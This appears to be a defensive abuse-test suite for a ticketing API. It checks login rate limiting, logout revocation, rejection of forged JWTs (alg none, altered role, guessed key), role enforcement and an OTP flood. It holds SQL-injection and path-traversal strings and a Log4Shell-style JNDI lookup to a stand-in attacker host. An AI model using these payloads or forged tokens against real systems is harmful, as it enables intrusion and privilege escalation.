"""Accounts under attack, against a real central: parallel password guessing, logout, tampered
and foreign tokens, control characters and injection strings, and the OTP flood."""

from __future__ import annotations

import base64
import contextlib
import json
import os
from collections import Counter
from pathlib import Path
from typing import Any

import httpx
import jwt

from tests.abuse.conftest import PASSWORD, Central, released_at_once
from tests.abuse.table import Ledger

INJECTIONS = (
    "' OR '1'='1",
    "admin@example.com'--",
    "x@example.com; DROP TABLE users;--",
    '"; SELECT * FROM users; --',
    "../../../../etc/passwd",
    "%00",
    "${jndi:ldap://evil.example/a}",
)


def _counts(statuses: list[int]) -> str:
    return ", ".join(f"{n}×{s}" for s, n in sorted(Counter(statuses).items()))


async def test_parallel_password_guessing(central: Central, ledger: Ledger) -> None:
    victim = await central.user()
    wrong = {"email": victim["email"], "password": "wrong password!"}
    async with central.client() as c:

        def guess(body: dict[str, str]) -> Any:
            return lambda: c.post("/api/auth/login", json=body)

        first = await released_at_once(*(guess(wrong) for _ in range(60)))
        ledger.attempt(
            "accounts",
            "60 wrong passwords in parallel",
            attempts=60,
            expected="10×401, 50×429",
            outcome=_counts([r.status_code for r in first]),
        )
        right = {"email": victim["email"], "password": PASSWORD}
        second = await released_at_once(
            *(guess(wrong) for _ in range(20)), guess(right), *(guess(wrong) for _ in range(20))
        )
        ledger.attempt(
            "accounts",
            "the right password inside a burst, once locked",
            attempts=41,
            expected="41×429",
            outcome=_counts([r.status_code for r in second]),
        )


async def test_logout_ends_the_refresh_token(central: Central, ledger: Ledger) -> None:
    user = await central.user()
    async with central.client() as c:
        r = await c.post("/api/auth/refresh", headers=central.auth(user["refresh"]))
        minted = r.json()["data"]["access_token"]
        assert (
            await c.post("/api/auth/logout", headers=central.auth(user["token"]))
        ).status_code == 200
        after = [
            (await c.post("/api/auth/refresh", headers=central.auth(user["refresh"]))).status_code,
            (await c.get("/api/credits/balance", headers=central.auth(minted))).status_code,
            (await c.get("/api/credits/balance", headers=central.auth(user["token"]))).status_code,
        ]
    ledger.attempt(
        "accounts",
        "refresh / minted / access token after logout",
        attempts=3,
        expected="3×401",
        outcome=_counts(after),
    )


def _template(path: str, user: dict[str, Any], event: dict[str, Any]) -> str:
    return path.replace(user["user_id"], "{user_id}").replace(event["event_id"], "{event_id}")


def _b64(data: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()


async def test_tampered_tokens(central: Central, ledger: Ledger) -> None:
    user = await central.user()
    header, payload, signature = user["token"].split(".")
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    forged = {
        "alg none": f"{_b64({'alg': 'none', 'typ': 'JWT'})}.{_b64({**claims, 'role': 'admin'})}.",
        "role changed, old signature": f"{header}.{_b64({**claims, 'role': 'admin'})}.{signature}",
        "signed with a guessed key": jwt.encode({**claims, "role": "admin"}, "secret" * 6, "HS256"),
        "another user's id, old signature": f"{header}.{_b64({**claims, 'sub': central.admin_token[:8]})}.{signature}",
        "refresh token as access token": user["refresh"],
        "garbage": "not.a.token",
    }
    async with central.client() as c:
        for name, token in forged.items():
            r = await c.post(
                "/api/admin/credits/grant",
                json={"user_id": user["user_id"], "amount": 1000},
                headers=central.auth(token),
            )
            ledger.attempt(
                "tokens", f"JWT: {name}", attempts=1, expected="401", outcome=str(r.status_code)
            )
        r = await c.get("/api/credits/balance", headers=central.auth(user["token"]))
    assert r.json()["data"]["credit_balance"] == 0


async def test_a_customer_token_on_staff_admin_and_gate_endpoints(
    central: Central, ledger: Ledger
) -> None:
    user = await central.user()
    event = await central.event(rows=1, per_row=2)
    before = central.counts()
    calls = [
        ("POST", "/api/admin/events", {"name": "x"}, "403"),
        ("POST", "/api/admin/gates", {"hall_id": "HALL-A", "name": "g"}, "403"),
        ("POST", "/api/admin/credits/grant", {"user_id": user["user_id"], "amount": 5}, "403"),
        ("PATCH", f"/api/admin/users/{user['user_id']}", {"role": "admin"}, "403"),
        ("GET", f"/api/admin/events/{event['event_id']}/dashboard", None, "403"),
        ("POST", "/api/verify", {"qr_payload": "TR1:X", "hall_id": "HALL-A"}, "403"),
        ("POST", "/api/transfer/reverse", {"transfer_id": event["event_id"]}, "403"),
        ("GET", "/api/gate/manifest", None, "401"),
        ("POST", "/api/gate/verify", {"qr_payload": "x", "scan_id": "s1", "scanned_at": 1}, "401"),
        ("POST", "/api/gate/checkins", {"items": []}, "401"),
    ]
    async with central.client() as c:
        for method, path, body, expected in calls:
            r = await c.request(method, path, json=body, headers=central.auth(user["token"]))
            ledger.attempt(
                "roles",
                f"customer token: {method} {_template(path, user, event)}",
                attempts=1,
                expected=expected,
                outcome=str(r.status_code),
            )
    after = central.counts()
    assert after == before, {k: (before.get(k), v) for k, v in after.items() if before.get(k) != v}


async def test_control_characters_and_injection_strings(central: Central, ledger: Ledger) -> None:
    async with central.client() as c:
        before = central.counts()
        r = await c.post(
            "/api/auth/register", json={"email": "nul\x00@example.com", "password": PASSWORD}
        )
        ledger.attempt(
            "input",
            "NUL in a registration e-mail",
            attempts=1,
            expected="400",
            outcome=str(r.status_code),
            trace="none" if central.counts() == before else "a user row",
            trace_ok=central.counts() == before,
        )
        statuses = []
        for text in INJECTIONS:
            for call in (
                c.post("/api/auth/login", json={"email": text, "password": text}),
                c.get("/api/events", params={"page": text}),
                c.get(f"/api/events/{text}"),
                c.get(f"/api/tickets/{text}/qr", headers=central.auth(central.admin_token)),
                c.post(
                    "/api/reserve",
                    json={"seat_id": text},
                    headers=central.auth(central.admin_token),
                ),
            ):
                statuses.append((await call).status_code)
        # A strange but valid address is stored as data, never run as SQL.
        odd = f"o'hara-{len(statuses)}@example.com'--"
        r = await c.post("/api/auth/register", json={"email": odd, "password": PASSWORD})
        assert r.status_code == 201, r.text
        stored = central.rows("users", "SELECT email FROM users WHERE email = ?", odd.lower())
    ledger.attempt(
        "input",
        "SQL-injection / traversal strings in login, query, path and body fields",
        attempts=len(statuses),
        expected="all 4xx",
        outcome="all 4xx" if all(400 <= s < 500 for s in statuses) else _counts(statuses),
    )
    ledger.attempt(
        "input",
        "an e-mail with a quote and a comment marker",
        attempts=1,
        expected="stored verbatim as data",
        outcome="stored verbatim as data" if stored == [(odd.lower(),)] else repr(stored),
    )


async def _buy(central: Central, c: httpx.AsyncClient, user: dict[str, Any], seat_id: str) -> None:
    r = await c.post("/api/reserve", json={"seat_id": seat_id}, headers=central.auth(user["token"]))
    assert r.status_code == 200, r.text
    order_id = r.json()["data"]["order_id"]
    r = await c.post("/api/pay", json={"order_id": order_id}, headers=central.auth(user["token"]))
    assert r.status_code == 200, r.text


async def test_otp_flood_through_transfer_initiate(central: Central, ledger: Ledger) -> None:
    seller = await central.user(credits=100)
    buyer = await central.user()
    event = await central.event(rows=1, per_row=2)
    seat_id = event["seat_ids"][0]
    statuses = []
    async with central.client() as c:
        await _buy(central, c, seller, seat_id)
        for _ in range(12):
            r = await c.post(
                "/api/transfer/initiate",
                json={"seat_id": seat_id, "buyer_email": buyer["email"], "credits_amount": 0},
                headers=central.auth(seller["token"]),
            )
            statuses.append(r.status_code)
            if r.status_code != 201:
                assert r.json()["error_code"] == "RATE_LIMITED"
                assert int(r.headers["Retry-After"]) >= 1
                continue
            transfer_id = r.json()["data"]["transfer_id"]
            for _ in range(3):  # three wrong seller codes end the transfer
                await c.post(
                    "/api/transfer/confirm",
                    json={"transfer_id": transfer_id, "otp_code": "000000"},
                    headers=central.auth(seller["token"]),
                )
    sent = len(central.codes(buyer["user_id"], "transfer"))
    records = Counter(
        status
        for (status,) in central.rows(
            "orders", "SELECT status FROM transfers WHERE seat_id = ?", seat_id
        )
    )
    live = records["INITIATED"] + records["PENDING_OTP"]
    ledger.attempt(
        "otp",
        "initiate → 3 wrong codes → initiate again, 12 times",
        attempts=12,
        expected="8×201, 4×429; 8 codes sent to the buyer",
        trace=f"transfers: {dict(sorted(records.items()))} (refused ones compensated)",
        trace_ok=live == 0 and sum(records.values()) == len(statuses),
        outcome=f"{_counts(statuses)}; {sent} codes sent to the buyer",
    )


def _listening_ports(pid: int) -> set[int]:
    """TCP ports the process listens on (Linux /proc), to find the internal services."""
    inodes = set()
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        with contextlib.suppress(OSError):
            target = os.readlink(fd)
            if target.startswith("socket:["):
                inodes.add(target[8:-1])
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(OSError), open(table) as fh:
            for line in fh.readlines()[1:]:
                fields = line.split()
                if fields[3] == "0A" and fields[9] in inodes:  # LISTEN
                    ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return ports


async def test_a_customer_token_on_the_internal_services(central: Central, ledger: Ledger) -> None:
    user = await central.user()
    assert central.proc.proc is not None
    ports = _listening_ports(central.proc.proc.pid) - {central.proc.port}
    probes = {
        "users": f"/users/{user['user_id']}",
        "orders": f"/orders?user_id={user['user_id']}",
        "events": "/gates",
    }
    found = {}
    async with httpx.AsyncClient(timeout=10) as c:
        for port in sorted(ports):
            try:
                health = await c.get(f"http://127.0.0.1:{port}/health")
                service = health.json().get("service")
            except (httpx.HTTPError, ValueError):
                continue  # inventory's gRPC port speaks no HTTP/1
            if service in probes:
                r = await c.get(
                    f"http://127.0.0.1:{port}{probes[service]}", headers=central.auth(user["token"])
                )
                found[service] = r.status_code
    for service in sorted(probes):
        ledger.attempt(
            "roles",
            f"customer token on the internal {service} service",
            attempts=1,
            expected="401",
            outcome=str(found.get(service, "not found")),
        )
